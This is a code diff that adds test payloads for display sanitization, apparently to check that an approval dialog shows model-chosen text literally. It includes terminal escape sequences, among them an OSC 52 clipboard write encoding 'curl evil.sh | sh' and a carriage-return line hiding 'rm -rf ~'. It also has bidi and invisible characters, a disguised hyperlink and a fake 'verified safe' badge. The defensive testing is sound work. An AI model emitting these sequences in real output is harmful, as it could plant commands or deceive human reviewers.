@@ -363,3 +363,24 @@ PAYLOAD_CLASSES: dict[str, PayloadClass] = {
         ),
     )
 }
+
+DISPLAY_PAYLOADS: dict[str, tuple[str, ...]] = {
+    "terminal-escapes": (
+        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # OSC 52: write the clipboard
+        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
+        "\x1b[2K\x1b[1A",  # erase the line, move up: hide what came before
+        "\x1b[8m",  # concealed text
+        "\x9b31m",  # C1 CSI
+        "\x9d0;title\x9c",  # C1 OSC
+        "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",  # a hyperlink showing another address
+        "ok\rrm -rf ~",  # carriage return: overwrite the start of the line
+        "\x08\x08\x08",
+        "\x7f",
+        "\x00",
+    ),
+    "bidi": tuple("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
+    "invisible": (*"\u200b\u200c\u200d\u2060\ufeff\u00ad\u2028\u2029\u180e\u3164", "\U000e0041"),
+    "rich-text": ("<b>✔ verified safe</b>", "<img src=x>", "<a href='x'>approved</a>", "&lt;b&gt;"),
+}
+"""Model-chosen text that could act on a terminal or mislead a reader; `visible` names every one of
+these characters, and the approval dialog shows rich text literally."""
